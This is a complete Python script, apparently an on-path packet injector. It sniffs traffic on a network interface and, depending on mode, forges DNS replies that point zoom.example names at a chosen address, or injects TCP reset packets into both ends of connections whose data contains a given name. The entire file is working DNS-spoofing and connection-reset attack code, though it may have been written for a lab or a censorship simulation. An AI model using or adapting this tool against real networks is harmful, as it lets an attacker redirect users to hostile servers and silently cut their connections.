#!/usr/bin/python3
"""A box beside the path: sees the frames that arrive at an interface and sends packets of its own; what it saw passes all the same.

inject.py dns INTERFACE ADDRESS    answers A queries for zoom.example names with ADDRESS, at once, as if the resolver did
inject.py reset INTERFACE NAME     resets TCP connections (both ends) whose data contains NAME
IPv4 only.
"""
import socket
import struct
import sys


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(">%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def packet(source, destination, protocol, payload):
    header = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), 0x1234, 0, 64, protocol, 0, source, destination)
    return header[:10] + struct.pack(">H", checksum(header)) + header[12:] + payload


def with_sum(source, destination, protocol, segment, at):
    pseudo = source + destination + struct.pack(">BBH", 0, protocol, len(segment))
    return segment[:at] + struct.pack(">H", checksum(pseudo + segment)) + segment[at + 2:]


def answer_dns(ip, source, destination, body, address):
    sport, dport = struct.unpack(">HH", body[:4])
    query = body[8:]
    if ip[9] != 17 or dport != 53 or b"\x04zoom\x07example\x00" not in query.lower():
        return []
    end = 12
    while end < len(query) and query[end]:
        end += query[end] + 1
    kind = query[end + 1:end + 3]
    if kind != b"\x00\x01":
        return []
    data = query[:2] + struct.pack(">HHHHH", 0x8180, 1, 1, 0, 0) + query[12:end + 5] + b"\xc0\x0c" + struct.pack(">HHIH", 1, 1, 300, 4) + socket.inet_aton(address)
    segment = struct.pack(">HHHH", dport, sport, 8 + len(data), 0) + data
    return [(source, packet(destination, source, 17, with_sum(destination, source, 17, segment, 6)))]


def answer_reset(ip, source, destination, body, name):
    if ip[9] != 6 or name.encode() not in body:
        return []
    sport, dport, sequence, acknowledged = struct.unpack(">HHII", body[:12])
    length = len(body) - (body[12] >> 4) * 4
    back = struct.pack(">HHIIBBHHH", dport, sport, acknowledged, 0, 0x50, 0x04, 0, 0, 0)
    forth = struct.pack(">HHIIBBHHH", sport, dport, (sequence + length) & 0xFFFFFFFF, 0, 0x50, 0x04, 0, 0, 0)
    return [(source, packet(destination, source, 6, with_sum(destination, source, 6, back, 16))),
            (destination, packet(source, destination, 6, with_sum(source, destination, 6, forth, 16)))]


def main(kind, interface, argument):
    seen = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0800))
    seen.bind((interface, 0x0800))
    out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    react = {"dns": answer_dns, "reset": answer_reset}[kind]
    while True:
        ip, origin = seen.recvfrom(65536)
        if origin[2] == 4:  # what this interface sends itself
            continue
        source, destination = ip[12:16], ip[16:20]
        body = ip[(ip[0] & 15) * 4:struct.unpack(">H", ip[2:4])[0]]
        if len(body) < 12:
            continue
        for target, reply in react(ip, source, destination, body, argument):
            out.sendto(reply, (socket.inet_ntoa(target), 0))


main(*sys.argv[1:4])
